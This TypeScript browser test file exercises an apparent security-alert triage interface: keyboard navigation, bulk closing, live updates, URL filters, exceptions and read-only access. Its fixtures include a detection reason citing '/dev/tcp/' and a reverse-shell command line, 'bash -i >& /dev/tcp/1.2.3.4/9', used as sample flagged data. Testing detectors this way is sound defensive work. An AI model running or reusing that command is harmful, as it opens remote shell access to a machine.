/** Work on the queue of alerts in a real browser: by keyboard, in bulk, by filter, while more arrive. */
import { join } from 'node:path';
import t from 'tap';
import { startApi } from '../collector/api/start.ts';
import { addEventOf, addHosts, raise, raisedAgo } from './scene.ts';
import { absent, buildWeb, pictures, signIn, webRoot } from './visit.ts';

t.before(() => buildWeb(t));

t.test('triage by keyboard', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await addHosts(api);
  for (const [i, name] of ['one', 'two', 'three', 'four'].entries()) {
    const alert = raisedAgo({ ruleTitle: name }, name, 60 - i * 10);
    addEventOf(api, alert);
    await raise(api, alert);
  }
  const { page, faults } = await signIn(t, api);
  const statusOf = async (id: string) => (await api.deps.control.alerts.get(id))?.status;
  const active = page.locator('.grid-row.active');
  const row = (name: string) => page.getByRole('row').filter({ hasText: name });
  const detail = page.getByRole('complementary', { name: 'Alert detail' });
  await page.keyboard.press('g');
  await page.keyboard.press('a');
  await page.waitForURL(/\/alerts$/);
  await row('four').waitFor();

  await page.keyboard.press('j');
  await active.getByText('four').waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('k');
  await active.getByText('three').waitFor();
  await page.keyboard.press('Enter');
  await detail.getByRole('heading', { name: 'three', exact: true }).waitFor();
  await page.waitForURL(/\/alerts\/three$/);
  t.match(await page.title(), /^three/);
  t.match(await detail.textContent(), /Why it fired.*contains '\/dev\/tcp\/'/s);
  t.match(await detail.textContent(), /python3 \/srv\/app\.py/);
  t.match(await detail.textContent(), /T1059\.004 Unix Shell/, 'a technique by its name');
  await page.keyboard.press('j');
  await detail.getByRole('heading', { name: 'two', exact: true }).waitFor();

  await page.keyboard.press('a');
  await detail.locator('.status.acknowledged').waitFor();
  t.match(await api.deps.control.alerts.get('two'), { status: 'acknowledged', changedBy: 'ada' });
  await row('two').waitFor();
  await page.screenshot({ path: join(pictures, 'alert-acknowledged.png') });
  await page.keyboard.press('k');
  await detail.getByRole('heading', { name: 'three', exact: true }).waitFor();
  await row('two').waitFor({ state: 'detached' });
  await page.keyboard.press('Escape');
  await detail.waitFor({ state: 'detached' });
  await page.waitForURL(/\/alerts$/);

  await page.keyboard.press('/');
  await page.keyboard.type('jacka');
  t.equal(await page.getByRole('searchbox', { name: 'Search alerts' }).inputValue(), 'jacka');
  t.equal(await statusOf('three'), 'open', 'typing is not a command');
  await page.getByRole('searchbox', { name: 'Search alerts' }).fill('');
  await page.waitForURL(/\/alerts$/);
  await row('three').waitFor();
  await page.getByRole('grid').focus();
  await active.getByText('three').waitFor();
  await page.keyboard.press('c');
  await row('three').waitFor({ state: 'detached' });
  t.equal(await statusOf('three'), 'closed');
  await page.getByRole('status').getByRole('button', { name: 'Reopen' }).click();
  await row('three').waitFor();
  t.equal(await statusOf('three'), 'open', 'and back');
  await page.getByRole('button', { name: /^Acknowledged/ }).click();
  await row('two').waitFor();
  t.match(page.url(), /status=acknowledged/);
  t.same(faults, []);
});

t.test('many at once, with a note and a verdict', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await addHosts(api);
  await raise(
    api,
    ...Array.from({ length: 12 }, (_, i) => raisedAgo({ ruleTitle: `Alert ${i}` }, `a${i}`, 100 - i)),
  );
  const { page, faults } = await signIn(t, api);
  await page.goto(`${api.baseUrl}/alerts`);
  const grid = page.getByRole('grid', { name: 'Alerts' });
  await grid.getByText('Alert 11').waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('x');
  for (let i = 0; i < 4; i++) await page.keyboard.press('j');
  await page.keyboard.press('Shift+X');
  const bar = page.getByRole('toolbar', { name: 'Selected alerts' });
  await bar.getByText('5 selected').waitFor();
  t.equal(await page.locator('[aria-selected=true]').count(), 5);
  await grid.focus();
  await page.keyboard.press('Shift+ArrowDown');
  await bar.getByText('6 selected').waitFor();
  await page.screenshot({ path: join(pictures, 'alerts-selected.png') });
  await page.keyboard.press('c');
  const dialog = page.getByRole('dialog', { name: 'Close 6 alerts' });
  await dialog.getByLabel('Found to be').selectOption('false-positive');
  await dialog.getByLabel('Note').fill('the backup');
  await page.screenshot({ path: join(pictures, 'alerts-close-many.png') });
  await dialog.getByRole('button', { name: 'Close 6 alerts' }).click();
  await page.getByText('Closed 6 alerts.').waitFor();
  await page.waitForFunction(() => document.querySelectorAll('.grid-body [role=row]').length === 6);
  const closed = await api.deps.control.alerts.list({ status: 'closed' }, 100);
  t.same(closed.items.map(({ id }) => id).sort(), ['a10', 'a11', 'a6', 'a7', 'a8', 'a9']);
  t.ok(closed.items.every(({ note, verdict }) => note === 'the backup' && verdict === 'false-positive'));
  t.equal(await bar.count(), 0, 'nothing is selected any more');
  t.same(faults, []);
});

t.test('what arrives moves nothing that is read', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await addHosts(api);
  await raise(
    api,
    raisedAgo({ ruleTitle: 'First' }, 'first', 60),
    raisedAgo({ ruleTitle: 'Second' }, 'second', 50),
  );
  const { page, faults } = await signIn(t, api);
  await page.goto(`${api.baseUrl}/alerts`);
  const titles = () => page.locator('.grid-body [role=row] strong').allTextContents();
  await page.getByText('Second').first().waitFor();
  await page.evaluate(() => Object.assign(window, { same: true }));
  await raise(api, raisedAgo({ ruleTitle: 'Third', level: 'critical' }, 'third', 1));
  await page.getByText('Third').first().waitFor();
  t.same(await titles(), ['Third', 'Second', 'First'], 'nobody reads yet: it is there at once');
  await page.getByText(/New critical alert: Third on web-1/).waitFor({ state: 'attached' });
  await page.screenshot({ path: join(pictures, 'alert-arrives.png') });

  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await raise(
    api,
    raisedAgo({ ruleTitle: 'Fourth' }, 'fourth', 0),
    raisedAgo({ ruleTitle: 'Fifth' }, 'fifth', 0),
  );
  const fresh = page.getByRole('button', { name: /^2 new/ });
  await fresh.waitFor();
  t.same(await titles(), ['Third', 'Second', 'First']);
  await page.locator('.grid-row.active').getByText('Second').waitFor();
  await api.deps.control.alerts.setStatus('third', 'closed', 'bob', null, Date.now() * 1000);
  const third = (await api.deps.control.alerts.get('third'))!;
  await api.deps.bus.publish('alert', { alert: third, isNew: false });
  await page.getByRole('row').filter({ hasText: 'Third' }).getByText('closed').waitFor();
  t.same(await titles(), ['Third', 'Second', 'First'], 'what somebody else closed keeps its place');
  await page.screenshot({ path: join(pictures, 'alerts-held.png') });
  await page.keyboard.press('.');
  await page.waitForFunction(() => document.querySelectorAll('.grid-body [role=row]').length === 4);
  t.same((await titles()).slice(2), ['Second', 'First']);
  await page.locator('.grid-row.active').getByText('Second').waitFor();
  await raise(api, raisedAgo({ ruleTitle: 'First', count: 4 }, 'first', 0));
  await page.getByRole('row').filter({ hasText: 'First' }).getByText('5', { exact: true }).waitFor();
  t.equal(await page.evaluate(() => 'same' in window), true, 'the page was not loaded again');
  t.same(faults, []);
});

t.test('filters are in the address, and the way back works', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await addHosts(api);
  const { event } = raisedAgo({}, 'x', 0);
  const mallory = { ...event, 'user.name': 'mallory' };
  addEventOf(api, raisedAgo({ event: mallory }, 'user', 40));
  await raise(
    api,
    raisedAgo({ ruleTitle: 'On web', tags: ['attack.t1021.004'] }, 'web', 60),
    raisedAgo({ ruleTitle: 'On db', hostId: 'h2', hostName: 'db-primary.internal', level: 'low' }, 'db', 50),
    raisedAgo({ ruleTitle: 'By mallory', event: mallory }, 'user', 40),
    raisedAgo({ ruleTitle: 'Long ago' }, 'old', 3 * 86_400),
  );
  const { page, faults } = await signIn(t, api);
  const seen = async (query: string, titles: readonly string[]) => {
    await page.goto(`${api.baseUrl}/alerts?${query}`);
    const expected = [...titles].sort().join('|');
    await page.waitForFunction(
      (wanted) =>
        [...document.querySelectorAll('.grid-body [role=row] strong')]
          .map((title) => title.textContent)
          .sort()
          .join('|') === wanted && document.querySelector('.page-loading') === null,
      expected,
    );
    t.pass(query);
  };
  await seen('', ['On web', 'On db', 'By mallory', 'Long ago']);
  await seen('host=h2', ['On db']);
  await seen('level=medium', ['On web', 'By mallory', 'Long ago']);
  await seen('tag=attack.t1021', ['On web']);
  await seen('user=mallory', ['By mallory']);
  await seen('text=DB-PRIMARY', ['On db']);
  await seen('time=24h', ['On web', 'On db', 'By mallory']);
  await seen('status=closed', []);
  await seen(`until=${new Date(Date.now() - 86_400_000).toISOString()}`, ['Long ago']);
  await seen('user=mallory&host=h2', []);
  await page.getByText('No alert fits the filter').waitFor();
  await page.getByRole('button', { name: /^Host db-primary\.internal/ }).click();
  await page.getByText('By mallory').first().waitFor();
  t.match(new URL(page.url()).search, /^\?user=mallory$/);

  await page.getByRole('row').filter({ hasText: 'By mallory' }).click();
  await page.waitForURL(/\/alerts\/user\?user=mallory$/);
  await page.getByRole('link', { name: 'All of them in the queue' }).waitFor();
  t.equal(await page.locator('.alert-lines li').count(), 3, 'the others of its rule');
  await page.goBack();
  await page.waitForURL(/\/alerts\?user=mallory$/);
  await page.getByRole('complementary').waitFor({ state: 'detached' });
  await page.goForward();
  await page.getByRole('complementary').waitFor();
  await page
    .getByRole('link', { name: /T1021|Execution/ })
    .first()
    .click();
  await page.waitForURL(/tag=attack\./);

  await page.goto(`${api.baseUrl}/alerts`);
  await page.getByRole('button', { name: 'Filter', exact: true }).click();
  await page.locator('.filter-menu').getByLabel('Host').selectOption({ label: 'db-primary.internal' });
  await page.waitForURL(/host=h2/);
  t.same(faults, []);
});

t.test('an exception is proposed, previewed and made', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await addHosts(api);
  const alert = raisedAgo({ ruleTitle: 'Noise' }, 'noise', 30);
  addEventOf(api, alert);
  await raise(api, alert, raisedAgo({ ruleTitle: 'Noise' }, 'same', 20));
  const { event } = alert;
  const other = { ...event, 'process.command_line': 'something else' };
  await raise(api, raisedAgo({ ruleTitle: 'Noise', event: other }, 'other', 10));
  const { page, faults } = await signIn(t, api);
  await page.goto(`${api.baseUrl}/alerts/noise`);
  await page.getByRole('button', { name: 'Exception…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Exception' });
  await dialog.getByText(/would have hidden 2 alerts/).waitFor();
  await dialog.getByRole('checkbox', { name: /process\.command_line/ }).uncheck();
  await dialog.getByText(/would have hidden 3 alerts/).waitFor();
  await dialog.getByRole('checkbox', { name: /process\.command_line/ }).check();
  const make = dialog.getByRole('button', { name: 'Make the exception' });
  t.equal(await make.isDisabled(), true, 'not without a reason');
  await dialog.getByLabel('Why').fill('the nightly job, says bob');
  await dialog.getByLabel('For').selectOption({ label: 'A week' });
  await make.click();
  await dialog.waitFor({ state: 'detached' });
  const [made] = await api.deps.exceptions.list();
  t.match(made, { ruleId: 'rule-1', hosts: 'h1', reason: 'the nightly job, says bob', madeBy: 'ada' });
  t.match(made?.filter, /^process\.command_line:'bash -i >& \/dev\/tcp\/1\.2\.3\.4\/9'$/);
  const days = ((made?.expiresAt ?? 0) - Date.now() * 1000) / 86_400e6;
  t.ok(days > 6.9 && days < 7.1);
  t.same(faults, []);
});

t.test('who may only read sees no way to change', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  await raise(api, raisedAgo({ ruleTitle: 'one' }, 'one', 5));
  const { page } = await signIn(t, api, {}, 'viewer');
  await page.goto(`${api.baseUrl}/alerts/one`);
  const detail = page.getByRole('complementary', { name: 'Alert detail' });
  await detail.getByRole('heading', { name: 'one', exact: true }).waitFor();
  t.equal(await page.getByRole('button', { name: /Acknowledge a|Close alert|Exception/ }).count(), 0);
  const changes: string[] = [];
  page.on('request', (request) => request.method() !== 'GET' && changes.push(request.url()));
  await page.keyboard.press('a');
  await page.keyboard.press('c');
  await page.keyboard.press('?');
  await page.getByRole('dialog').waitFor();
  t.equal(await page.getByRole('dialog').getByText('Acknowledge').count(), 0);
  t.same(changes, []);
  t.match(await api.deps.control.alerts.get('one'), { status: 'open' });
});
